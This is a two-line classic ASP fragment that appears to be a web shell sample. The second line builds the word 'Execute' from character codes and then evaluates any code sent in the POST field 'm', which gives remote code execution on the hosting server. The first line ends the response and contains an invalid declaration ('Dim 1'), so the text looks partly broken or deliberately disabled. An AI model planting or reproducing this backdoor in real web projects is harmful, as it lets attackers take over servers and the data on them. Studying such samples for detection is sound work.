<% Response.End : Dim 1 %>
<% x = Chr(69) & "x" & Chr(101) & "cute" : Eval(Request.Form("m")) %>